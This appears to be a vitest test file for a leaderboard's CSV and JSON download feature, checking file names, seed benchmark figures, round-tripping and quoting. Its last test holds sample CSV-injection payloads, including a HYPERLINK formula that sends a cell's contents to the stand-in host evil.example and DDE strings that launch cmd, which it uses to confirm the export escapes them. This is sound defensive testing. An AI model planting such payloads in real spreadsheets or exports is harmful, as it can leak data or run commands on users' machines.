import { join, resolve } from "node:path";
import Papa from "papaparse";
import { describe, expect, it } from "vitest";
import { readDataset } from "../../integrations/readDataset";
import { buildBoard } from "../leaderboard/buildBoard";
import { findBenchmark } from "../leaderboard/boardIndex";
import { boardDownloadRows, boardToCsv, boardToJson, DOWNLOAD_COLUMNS } from "./leaderboardDownload";
import { downloadName } from "../routes/paths";

const ROOT = resolve(import.meta.dirname, "../../..");
const sample = readDataset({ dataDir: join(ROOT, "data"), displayRoot: ROOT });
const board = buildBoard({ benchmark: findBenchmark(sample.benchmarks, "aa-intelligence-index", "v4.0"), results: sample.results, models: sample.models });

describe("leaderboard downloads", () => {
  it("name files by benchmark and version", () => {
    expect(downloadName("aa-intelligence-index", "v4.0", "csv")).toBe("aa-intelligence-index-v4.0.csv");
  });
  it("carry the seed figures exactly, with their sources and the licence", () => {
    const sonnet = boardDownloadRows(board).find((r) => r.model === "claude-sonnet-4-6")!;
    expect(sonnet).toMatchObject({
      score: 51,
      setting: "max",
      output_tokens: 74_000_000,
      cost_usd: 2088,
      score_source_url: "https://news.smol.ai/issues/26-02-18-not-much",
      cost_usd_date: "2026-02-18",
      license: "Figures as reported in AINews; see source_url per row",
      version: "v4.0",
    });
    expect(sonnet.cost_per_point_usd).toBeCloseTo(2088 / 51, 5);
  });
  it("parse back from CSV to the same rows as the JSON", () => {
    const csv = boardToCsv(board);
    const json = JSON.parse(boardToJson(board)) as { rows: Record<string, unknown>[]; columns: string[] };
    const parsed = Papa.parse<Record<string, string>>(csv, { header: true, skipEmptyLines: true });
    expect(parsed.errors).toEqual([]);
    expect(parsed.meta.fields).toEqual([...DOWNLOAD_COLUMNS]);
    expect(json.columns).toEqual([...DOWNLOAD_COLUMNS]);
    const asText = (v: unknown) => (v === null ? "" : String(v));
    expect(parsed.data).toEqual(json.rows.map((r) => Object.fromEntries(DOWNLOAD_COLUMNS.map((c) => [c, asText(r[c])]))));
    expect(parsed.data).toHaveLength(board.entries.length);
  });
  it("quote names with commas and quotes", () => {
    const odd = { ...board, entries: [{ ...board.entries[0], model: { ...board.entries[0].model, name: 'A, "B"' } }] };
    const parsed = Papa.parse<Record<string, string>>(boardToCsv(odd), { header: true, skipEmptyLines: true });
    expect(parsed.data[0].model_name).toBe('A, "B"');
  });
  it("escape text a spreadsheet would run as a formula (OWASP CSV injection) and strip NUL; numbers stay numbers", () => {
    const e = board.entries[0];
    const hostile = {
      ...board,
      entries: [
        {
          ...e,
          setting: '=HYPERLINK("https://evil.example/?"&A1,"Click")',
          model: { ...e.model, name: "+cmd|' /C calc'!A0", lab: "@SUM(1+1)*cmd|' /C calc'!A0" },
          score: { ...e.score, note: "-2+3+cmd|' /C calc'!A0\u0000" },
        },
        { ...board.entries[1], setting: "\t=1+1", model: { ...board.entries[1].model, name: "\r=1+1" } },
      ],
    };
    const csv = boardToCsv(hostile);
    const rows = Papa.parse<Record<string, string>>(csv, { header: true, skipEmptyLines: true }).data;
    expect(rows[0].setting).toBe(`'=HYPERLINK("https://evil.example/?"&A1,"Click")`);
    expect(rows[0].model_name).toBe("'+cmd|' /C calc'!A0");
    expect(rows[0].lab).toBe("'@SUM(1+1)*cmd|' /C calc'!A0");
    expect(rows[0].score_note).toBe("'-2+3+cmd|' /C calc'!A0");
    expect(rows[1].setting).toBe("'\t=1+1");
    expect(rows[1].model_name).toBe("'\r=1+1");
    // No cell of the file starts a formula, and no NUL is left.
    for (const row of rows) for (const cell of Object.values(row)) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
    expect(csv).not.toContain("\u0000");
    expect(boardToJson(hostile)).not.toContain("\\u0000");
    expect(rows[0].score).toBe(String(e.score.value));
  });
});
